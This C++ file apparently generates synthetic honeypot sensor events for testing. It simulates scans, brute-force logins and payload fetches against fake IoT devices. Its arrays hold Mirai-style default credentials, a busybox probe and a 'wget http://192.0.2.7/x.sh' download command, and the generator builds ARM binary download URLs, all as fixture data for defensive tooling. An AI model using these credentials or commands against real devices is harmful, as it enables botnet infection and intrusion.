#include "testing/synthetic_events.h"

#include <fmt/format.h>

#include <array>

namespace mitsu::testing {
namespace {

struct PersonaPort {
  Persona persona;
  const char* protocol;
  int port;
};

const std::array kTargets{
    PersonaPort{{"camera", "Acme", "IPC-2000"}, "telnet", 23},
    PersonaPort{{"recorder", "Acme", "BDR-500"}, "http", 80},
    PersonaPort{{"intercom", "Acme", "DI-10"}, "ssh", 22},
    PersonaPort{{"nas", "Acme", "NS-4"}, "smb", 445},
    PersonaPort{{"router", "Acme", "RT-AX"}, "telnet", 2323},
};

const std::array kUsers{"root", "admin", "support", "user", "guest", "default"};
const std::array kPasswords{"xc3511", "vizxv", "admin", "888888", "12345", "default", "root"};
const std::array kCommands{"enable",
                           "system",
                           "shell",
                           "sh",
                           "/bin/busybox MIRAI",
                           "cat /proc/cpuinfo",
                           "cd /tmp || cd /var/run; wget http://192.0.2.7/x.sh"};

}  // namespace

SyntheticEvents::SyntheticEvents(SyntheticOptions options)
    : options_(options),
      random_(options.seed),
      builder_(options.sensor, ids_),
      now_us_(options.start_us) {}

void SyntheticEvents::start_session() {
  const PersonaPort& target = kTargets[random_() % kTargets.size()];
  session_.session_id = ids_.next_at(now_us_ / 1000).to_string();
  session_.protocol = target.protocol;
  session_.persona = target.persona;
  session_.dst_port = target.port;
  session_.src_port = static_cast<int>(1024 + random_() % 64000);
  std::uint64_t r = random_();
  switch (r % 4) {
    case 0:
      session_.src_ip = fmt::format("192.0.2.{}", (r >> 8) % 256);
      break;
    case 1:
      session_.src_ip = fmt::format("198.51.100.{}", (r >> 8) % 256);
      break;
    case 2:
      session_.src_ip = fmt::format("203.0.113.{}", (r >> 8) % 256);
      break;
    default:
      session_.src_ip = fmt::format("2001:db8::{:x}", (r >> 8) % 65536);
      break;
  }
  // Most sessions are scans or brute force; a few get in and fetch a payload.
  pending_ = {"session.close"};
  if (r % 5 == 0) {
    pending_.push_back("file.download");
  }
  for (std::uint64_t i = (r >> 20) % 3; i > 0; --i) {
    pending_.push_back("command");
  }
  for (std::uint64_t i = (r >> 24) % 6; i > 0; --i) {
    pending_.push_back("login.attempt");
  }
  pending_.push_back("session.open");
}

std::string SyntheticEvents::next() {
  if (pending_.empty()) {
    start_session();
  }
  std::string action = std::move(pending_.back());
  pending_.pop_back();
  now_us_ += options_.step_us;
  nlohmann::json event = builder_.session_event(session_, action, now_us_);
  std::uint64_t r = random_();
  if (action == "login.attempt") {
    set_field(event, "user.name", kUsers[r % kUsers.size()]);
    set_field(event, "mitsu.login.password", kPasswords[(r >> 8) % kPasswords.size()]);
    set_field(event, "event.outcome", (r >> 16) % 4 == 0 ? "success" : "failure");
  } else if (action == "command") {
    set_field(event, "process.command_line", kCommands[r % kCommands.size()]);
  } else if (action == "file.download") {
    set_field(event, "url.full", fmt::format("http://192.0.2.7/bins/x{}.arm", r % 16));
    set_field(event, "event.outcome", "success");
    set_field(event, "file.hash.sha256", fmt::format("{:064x}", r % 16 + 1));
    set_field(event, "file.size", 40000 + r % 16);
  } else if (action == "session.close") {
    set_field(event, "mitsu.session.end_reason", "client_closed");
  }
  return to_event_text(event);
}

}  // namespace mitsu::testing
